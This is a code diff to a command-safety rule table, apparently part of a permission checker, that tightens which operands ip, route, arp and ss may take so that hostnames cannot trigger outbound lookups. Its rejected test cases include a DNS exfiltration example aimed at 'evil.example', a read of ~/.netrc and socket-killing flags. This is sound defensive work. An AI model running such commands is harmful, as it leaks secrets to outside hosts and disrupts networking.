@@ -31,6 +31,9 @@ const interfaces: readonly Program[] = [
           pairs("netns", "list list-id identify pids"),
         ].join("|"),
         operands: ["text"],
+        // Addresses, interfaces and words of its own: a name would be looked up, which sends it out.
+        operandIs:
+          /^(?:[\d.:/a-fA-F]+|dev|up|down|table|main|local|all|default|scope|link|global|host|type|from|to|via|oif|iif|vrf|master|proto|kernel|static|dynamic|permanent|stale|reachable|nud|(?:eth|en|wl|ww|lo|br|docker|veth|virbr|bond|team|tun|tap|wg|vlan|cni|flannel|cali|vxlan|dummy|ppp|usb|ib|can|tailscale|utun)[\w.@-]*)$/,
         match: [
           "ip addr show",
           "ip -4 a s",
@@ -69,7 +72,13 @@ const interfaces: readonly Program[] = [
   also(
     { connects: [nameServer] },
     subs("route", "", [
-      { sub: "get", operands: ["text"], operandIs: name, match: ["route get default"], notMatch: ["route get -x y"] },
+      {
+        sub: "get",
+        operands: ["text"],
+        operandIs: /^(?:default|[\d.:/a-fA-F]+)$/,
+        match: ["route get default"],
+        notMatch: ["route get -x y"],
+      },
       {
         options: "-ne6v",
         match: ["route", "route -n"],
@@ -82,7 +91,8 @@ const interfaces: readonly Program[] = [
     reads("arp", {
       options: "-anev -i=",
       operands: ["text", "none"],
-      operandIs: name,
+      // A name would be looked up, which sends it out.
+      operandIs: /^[\d.:a-fA-F]+$/,
       match: ["arp -a", "arp -n"],
       notMatch: ["arp -d 192.0.2.1", "arp -s 192.0.2.1 x", "arp -f x", "arp -a -d x"],
     }),
@@ -234,6 +244,8 @@ const filters: readonly Program[] = [
       --info --resolve --options --family= --query= --socket= --no-header --oneline --no-queues --tos --cgroup --context
       --contexts --bpf --ipv4 --ipv6 --inet-sockopt --tipcinfo ?--kill ?--diag=>`,
       operands: ["text"],
+      operandIs:
+        /^(?:state|exclude|established|connected|synchronized|bucket|big|all|listen(?:ing)?|closed|close-wait|last-ack|closing|time-wait|fin-wait-[12]|syn-(?:sent|recv)|[sd]port|src|dst|dev|and|or|not|eq|ne|[lg][et]|[()=!<>&|]+|[\s()=!<>&|]*(?:(?:[sd]port|src|dst|and|or|not|=|!=|[<>]=?|\(|\)|:\w+|[\d.:/[\]a-fA-F*]+)\s*)+|:\w+|[\d.:/[\]a-fA-F*]+)$/,
       talks: true,
       match: ["ss -tlnp", "ss -s", "ss -tnp state established", "ss -tn state established '( dport = :443 )'"],
       notMatch: ["ss -K dst 192.0.2.1", "ss -D x", "ss -F ~/.netrc", "ss -N ns", "ss --ki", 'ss dst "$x.evil.example"'],
